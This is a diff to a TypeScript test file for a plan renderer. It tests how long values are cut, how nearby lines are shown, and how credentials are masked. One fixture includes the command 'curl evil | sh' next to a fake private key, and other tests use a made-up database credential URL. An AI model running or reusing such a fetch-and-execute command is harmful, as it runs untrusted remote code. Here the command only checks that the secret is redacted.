@@ -1,9 +1,10 @@
-import { deepStrictEqual, doesNotMatch, match, strictEqual } from "node:assert/strict";
+import { deepStrictEqual, doesNotMatch, ok, strictEqual } from "node:assert/strict";
 import { examplePlan, exampleResource } from "../../tests/support/example_plan.ts";
 import type { FieldChange, Plan } from "../../engine/plan.ts";
 import { summarizePlan } from "../../engine/summarize_plan.ts";
 import { record, Secret, Unknown } from "../../engine/value.ts";
 import type { IsDefault } from "../../project/default_fields.ts";
+import type { Extent } from "./cut_text.ts";
 import { jsonText } from "./json_text.ts";
 import { planJson } from "./plan_json.ts";
 import { planLines } from "./plan_text.ts";
@@ -12,8 +13,12 @@ function change(path: string, before: FieldChange["before"], after: FieldChange[
   return { path, before, after, forcesReplacement: false };
 }
 
-function shown(plan: Plan, isDefault: IsDefault = () => false): readonly string[] {
-  return planLines(plan, summarizePlan(plan), isDefault).map((parts) =>
+function shown(
+  plan: Plan,
+  isDefault: IsDefault = () => false,
+  extent: Extent = "short",
+): readonly string[] {
+  return planLines(plan, summarizePlan(plan), { isDefault, extent }).map((parts) =>
     parts.map(({ text }) => text).join("")
   );
 }
@@ -67,11 +72,12 @@ Deno.test("planLines() shows what changes, field by field", () => {
     "",
     "  -   old.main : sim.Network",
     "        - object old-0, replaced before and still there",
-    "        6 rely on it: a.a, a.b, a.c, a.d, a.e, …",
+    "        6 rely on it: a.a, a.b, a.c, a.d, a.e and 1 more",
     "",
     "Outputs",
     '      ~ address : "1.1.1.1" -> "2.2.2.2"',
     "",
+    "note: what is long is cut (…); with --full all of it is shown",
     "1 to create, 1 to update, 1 to replace, 1 to delete, 2 replaced objects to delete, 1 unchanged",
   ]);
 });
@@ -150,29 +156,124 @@ Deno.test("planLines() tells a change from outside once", () => {
   ]);
 });
 
-Deno.test("planLines() shows texts of several lines by the lines that differ", () => {
-  const before = "a\nb\nc\nd\n";
-  const after = "a\nB\nB2\nc\nd\n";
-  const lines = shown(
-    examplePlan([exampleResource("f.f", "update", { changes: [change("content", before, after)] })]),
-  );
-  deepStrictEqual(lines.slice(3, 9), [
+function changed(
+  { before, after }: Pick<FieldChange, "before" | "after">,
+  extent: Extent = "short",
+): readonly string[] {
+  const changes = [change("content", before, after)];
+  const lines = shown(examplePlan([exampleResource("f.f", "update", { changes })]), () => false, extent);
+  return lines.slice(3, lines.indexOf("", 3));
+}
+
+function count(length: number, lineAt = (index: number) => `${index}`): string {
+  return Array.from({ length }, (_, index) => `${lineAt(index)}\n`).join("");
+}
+
+Deno.test("planLines() shows texts of several lines by the lines that differ and those around them", () => {
+  deepStrictEqual(changed({ before: "a\nb\nc\nd\n", after: "a\nB\nB2\nc\nd" }), [
     "      ~ content :",
-    "            (1 line unchanged)",
+    "            a",
     "          - b",
     "          + B",
     "          + B2",
-    "            (3 lines unchanged)",
+    "            c",
+    "          - d",
+    "          + d",
+    "            (no newline at the end)",
+  ]);
+  const after = count(100, (index) => index === 50 ? "fifty" : `${index}`);
+  for (const extent of ["short", "full"] as const) {
+    deepStrictEqual(changed({ before: count(100), after }, extent), [
+      "      ~ content :",
+      "            (47 lines unchanged)",
+      ...["            47", "            48", "            49", "          - 50", "          + fifty"],
+      ...["            51", "            52", "            53"],
+      "            (46 lines unchanged)",
+    ]);
+  }
+});
+
+Deno.test("planLines() shows a text of several lines that comes or goes by its lines", () => {
+  deepStrictEqual(changed({ before: undefined, after: "a\nb\n" }), [
+    "      + content =",
+    "          + a",
+    "          + b",
+  ]);
+  deepStrictEqual(changed({ before: "a\nb\n", after: undefined }), [
+    "      - content =",
+    "          - a",
+    "          - b",
+  ]);
+  deepStrictEqual(changed({ before: undefined, after: "a\n" }), ['      + content = "a\\n"']);
+});
+
+Deno.test("planLines() cuts long values around what differs, says how much is left out, and shows all when asked", () => {
+  const [before, after] = [
+    `${"x".repeat(1_200)}deny${"y".repeat(300)}`,
+    `${"x".repeat(1_200)}allow${"y".repeat(300)}`,
+  ];
+  const [x, y] = ["x".repeat(30), "y".repeat(30)];
+  deepStrictEqual(changed({ before, after }), [
+    `      ~ content : … 1170 characters … "${x}deny${y}" … 270 characters … -> ` +
+    `… 1170 characters … "${x}allow${y}" … 270 characters …`,
+  ]);
+  deepStrictEqual(changed({ before, after }, "full"), [`      ~ content : "${before}" -> "${after}"`]);
+  deepStrictEqual(changed({ before: undefined, after: "z".repeat(1_000) }), [
+    `      + content = "${"z".repeat(200)}" … 800 characters …`,
+  ]);
+  const whole = [`${"p".repeat(500)}`, `${"q".repeat(500)}`] as const;
+  deepStrictEqual(changed({ before: whole[0], after: "q" }), [
+    `      ~ content : "${"p".repeat(150)}" … 300 characters … "${"p".repeat(50)}" -> "q"`,
   ]);
 });
 
-Deno.test("planLines() cuts off long values and long texts", () => {
-  const long = Array.from({ length: 100 }, (_, index) => `${index}`).join("\n");
-  const changes = [change("one", "x".repeat(1_000), "y"), change("many", "0", `${long}\n`)];
-  const lines = shown(examplePlan([exampleResource("f.f", "update", { changes })]));
-  match(lines[3] ?? "", /x… \(1002 characters\) -> "y"$/);
-  strictEqual(lines.filter((each) => each.startsWith("          + ")).length, 21);
-  match(lines.join("\n"), /… and \d+ more lines/);
+Deno.test("planLines() cuts long lines around what differs, and long differences at the end", () => {
+  const lines = (word: string) => `#!/bin/sh\n${"x".repeat(1_200)}${word}\n`;
+  deepStrictEqual(changed({ before: lines("deny"), after: lines("allow") }), [
+    "      ~ content :",
+    "            #!/bin/sh",
+    `          - … 1170 characters … ${"x".repeat(30)}deny`,
+    `          + … 1170 characters … ${"x".repeat(30)}allow`,
+  ]);
+  const many = { before: "0\n", after: count(100, (index) => `line ${index}`) };
+  const cut = changed(many);
+  deepStrictEqual([cut.length, cut.at(-1)], [42, "          … and 61 more lines"]);
+  deepStrictEqual(changed(many, "full").filter((each) => each.startsWith("          + ")).length, 100);
+});
+
+Deno.test("planLines() shows no half of a credential where it cuts", () => {
+  const credential = "https://ada:correct-horse-battery@db.internal/orders";
+  for (const before of [undefined, `${"y".repeat(1_000)}@db`]) {
+    const text = changed({ before, after: `${"x".repeat(170)} ${credential} ${"x".repeat(500)}` }).join("\n");
+    doesNotMatch(text, /correct-h/);
+  }
+  const lines = changed({
+    before: "a\nb\n",
+    after: `a\n${"x".repeat(130)} ${credential} ${"x".repeat(90)}\n`,
+  });
+  doesNotMatch(lines.join("\n"), /correct-h/);
+});
+
+Deno.test("planLines() shows that a text differs where nothing does but a credential, and hides nothing else", () => {
+  const key = (inside: string) => `-----BEGIN PRIVATE KEY-----\n${inside}\n-----END PRIVATE KEY-----\n`;
+  const [old, now] = ["MC4CAQAwBQYDK2VwBCIEIA", "MC4CAQAwBQYDK2VwBCIEIB"];
+  deepStrictEqual(changed({ before: key(old), after: key(`${now}\ncurl evil | sh`) }), [
+    "      ~ content :",
+    "            -----BEGIN PRIVATE KEY-----",
+    "          - (sensitive)",
+    "          + (sensitive)",
+    "          + curl evil | sh",
+    "            -----END PRIVATE KEY-----",
+  ]);
+});
+
+Deno.test("planLines() says that something is cut, and how to see it, only where something is", () => {
+  const planOf = (after: string) =>
+    examplePlan([exampleResource("f.f", "create", { changes: [change("one", undefined, after)] })]);
+  const note = "note: what is long is cut (…); with --full all of it is shown";
+  ok(shown(planOf("x".repeat(1_000))).includes(note));
+  ok(!shown(planOf("… 7 characters …")).includes(note));
+  ok(!shown(planOf("x".repeat(1_000)), () => false, "full").includes(note));
 });
 
 Deno.test("no plan shows a secret", () => {
